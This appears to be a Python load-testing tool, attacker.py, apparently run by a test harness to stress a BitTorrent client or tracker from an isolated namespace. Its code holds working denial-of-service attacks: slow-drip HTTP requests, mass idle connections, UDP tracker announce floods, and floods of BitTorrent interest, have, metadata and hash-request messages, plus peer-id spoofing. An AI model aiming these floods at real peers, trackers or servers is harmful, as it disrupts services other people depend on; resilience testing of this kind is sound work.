"""One hostile host: opens doors and does not behave. Used by `run`, in a namespace of its own; ends by itself.

    attacker.py KIND --target ADDRESS:PORT [--sources A,B,...] [--seconds 20] [--hash HEX] [--id HEX] [--hold N] [--rate N]

It prints `ready` when the attack stands, and one line of figures at its end. Every kind is bounded in connections and in time.
"""

import argparse
import os
import random
import resource
import selectors
import socket
import struct
import sys
import time

MOST_UNREAD = 1 << 20


def message(number, payload=b""):
    return struct.pack(">IB", 1 + len(payload), number) + payload


def handshake(info_hash, peer_id):
    # Extension protocol, fast extension, and the second version of the protocol.
    return b"\x13BitTorrent protocol" + bytes([0, 0, 0, 0, 0, 0x10, 0, 0x14]) + info_hash + peer_id


EXTENDED = message(20, b"\x00d1:md11:ut_metadatai3e6:ut_pexi1ee1:v4:evil4:reqqi500ee")


class Connection:
    """A connection that sends what `opening` says, then `flood` again and again, and reads at most `reads` bytes a second.
    With `answer`, the bytes that one flood brings, it asks for 3 MB ahead of what it has read, and never for more."""

    def __init__(self, source, target, opening=b"", flood=b"", reads=1 << 30, drip=False, answer=0):
        family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
        self.socket = socket.socket(family, socket.SOCK_STREAM)
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if source:
            self.socket.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
            self.socket.bind((source, 0))
        self.socket.connect_ex(target)
        self.born = time.monotonic()
        self.opening, self.flood, self.reads, self.drip = opening, flood, reads, drip
        self.waiting = opening[:1] if drip else opening
        self.sent = self.received = 0
        self.next_read = 0.0
        self.next_drip = time.monotonic() + 2
        self.dripped = 1
        self.answer, self.asked = answer, 0

    def write(self, now):
        if self.drip and now >= self.next_drip and self.dripped < len(self.opening):
            self.waiting += self.opening[self.dripped:self.dripped + 1]
            self.dripped += 1
            self.next_drip = now + 2
        if not self.waiting and self.flood and self.asked - self.received < 3_000_000:
            self.waiting = self.flood
            self.asked += self.answer
        if not self.waiting:
            return
        count = self.socket.send(self.waiting)
        self.sent += count
        self.waiting = self.waiting[count:]

    def read(self, now):
        if now < self.next_read:
            return
        wanted = min(65536, self.reads)
        data = self.socket.recv(wanted)
        if not data:
            raise ConnectionError
        self.received += len(data)
        if self.reads < 65536:
            self.next_read = now + 1


class Crowd:
    """Keeps `hold` connections, spread over the sources, and opens at most `rate` a second."""

    def __init__(self, given, make):
        self.given, self.make = given, make
        self.open, self.made, self.lost, self.sent, self.received = {}, 0, 0, 0, 0

    def run(self):
        given, begun = self.given, time.monotonic()
        selector, told, allowance, last = selectors.DefaultSelector(), False, 1.0, begun
        while (now := time.monotonic()) - begun < given.seconds:
            allowance = min(given.rate, allowance + (now - last) * given.rate)
            last = now
            while len(self.open) < given.hold and allowance >= 1:
                allowance -= 1
                source = given.sources[self.made % len(given.sources)] if given.sources else None
                self.made += 1
                try:
                    connection = self.make(source, given.target)
                except OSError:
                    self.lost += 1
                    continue
                self.open[connection.socket.fileno()] = connection
                selector.register(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
            if not told and (len(self.open) >= given.hold or now - begun > 3):
                told = True
                print("ready", flush=True)
            busy = False
            for key, events in selector.select(0.05):
                connection = key.data
                try:
                    if events & selectors.EVENT_WRITE:
                        before = connection.sent
                        connection.write(now)
                        busy = busy or connection.sent > before
                    if events & selectors.EVENT_READ:
                        before = connection.received
                        connection.read(now)
                        busy = busy or connection.received > before
                except BlockingIOError:
                    pass
                except OSError:
                    self.drop(selector, connection)
            if not busy:
                time.sleep(0.01)
        for connection in list(self.open.values()):
            self.drop(selector, connection)
        self.lost -= 0

    def drop(self, selector, connection):
        selector.unregister(connection.socket)
        self.open.pop(connection.socket.fileno(), None)
        connection.socket.close()
        self.lost += 1
        self.sent += connection.sent
        self.received += connection.received


def udp_flood(given):
    """Fills a tracker: from each source one connection id, then announces of random swarms, or of many ports of one swarm."""
    sockets = []
    for source in given.sources or [None]:
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if source:
            one.bind((source, 0))
        one.settimeout(1)
        one.sendto(struct.pack(">QII", 0x41727101980, 0, 1), given.target)
        try:
            answer = one.recv(64)
        except OSError:
            continue
        one.setblocking(False)
        sockets.append((one, answer[8:16]))
    print("ready", flush=True)
    begun, sent, port = time.monotonic(), 0, 1024
    while sockets and time.monotonic() - begun < given.seconds and sent < given.most:
        for one, identity in sockets:
            for _ in range(32):
                port = port + 1 if port < 65000 else 1024
                info_hash = given.hash if given.kind == "ports" else os.urandom(20)
                packet = struct.pack(
                    ">8sII20s20sQQQIIIiH", identity, 1, 1, info_hash, b"-EV0001-" + os.urandom(12), 0, 0, 0, 2, 0, 0, 50, port)
                try:
                    one.sendto(packet, given.target)
                    sent += 1
                except BlockingIOError:
                    break
        for one, _ in sockets:
            try:
                while True:
                    one.recv(4096)
            except OSError:
                pass
    print(f"announced {sent}", flush=True)


def learn_id(target, info_hash):
    """The peer id that the other side answers with."""
    with socket.create_connection(target, timeout=5) as one:
        one.sendall(handshake(info_hash, b"-EV0001-" + os.urandom(12)))
        data = b""
        while len(data) < 68:
            more = one.recv(68 - len(data))
            if not more:
                break
            data += more
        return data[48:68]


def peer(given, extra=b"", flood=b"", reads=1 << 30, answer=0):
    def make(source, target):
        identity = given.id or b"-EV0001-" + bytes(random.choices(range(33, 126), k=12))
        return Connection(source, target, handshake(given.hash, identity) + extra, flood, reads, answer=answer)
    return make


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind")
    parser.add_argument("--target", required=True)
    parser.add_argument("--sources", default="")
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--hash", default="00" * 20)
    parser.add_argument("--root", default="00" * 32)
    parser.add_argument("--id", default="")
    parser.add_argument("--hold", type=int, default=500)
    parser.add_argument("--rate", type=float, default=2000)
    parser.add_argument("--most", type=int, default=2_000_000, help="datagrams")
    given = parser.parse_args()
    host, port = given.target.rsplit(":", 1)
    given.target = (host.strip("[]"), int(port))
    given.sources = [word for word in given.sources.split(",") if word]
    given.hash, given.id, given.root = bytes.fromhex(given.hash), bytes.fromhex(given.id), bytes.fromhex(given.root)
    given.seconds = min(given.seconds, 600)
    resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
    kind = given.kind
    if kind in ("swarms", "ports"):
        return udp_flood(given)
    if kind == "learn":
        return print(learn_id(given.target, given.hash).hex())
    makers = {
        "silent": lambda s, t: Connection(s, t),
        "drip": lambda s, t: Connection(s, t, b"GET /a-request-that-never-ends HTTP/1.1\r\nHost: x\r\nX: " + b"y" * 4000, drip=True),
        "idle": peer(given, message(15)),
        "metadata": peer(
            given, message(15) + EXTENDED,
            b"".join(message(20, b"\x02d8:msg_typei0e5:piecei%dee" % (n % 64)) for n in range(512)), reads=1024),
        "pipeline": peer(
            given, message(15) + EXTENDED, message(20, b"\x02d8:msg_typei0e5:piecei0ee") * 16, answer=16 * 16_400),
        "hashes": peer(
            given, message(15) + EXTENDED,
            b"".join(message(21, given.root + struct.pack(">IIII", 6, 0, 512, 6)) for _ in range(512)), reads=1024),
        "interest": peer(given, message(15), (message(2) + message(3)) * 4096),
        "have": peer(given, message(15), message(4, struct.pack(">I", 1)) * 4096),
        "unasked": peer(given, message(15) + EXTENDED, message(20, b"\xc8" + bytes(16000)) * 8),
        "steal": peer(given, message(15) + EXTENDED),
        "idle-http": lambda s, t: Connection(s, t, b"GET /heartbeat HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    }
    crowd = Crowd(given, makers[kind])
    crowd.run()
    print(f"made {crowd.made} lost {crowd.lost} sent {crowd.sent} received {crowd.received}", flush=True)


if __name__ == "__main__":
    sys.exit(main())
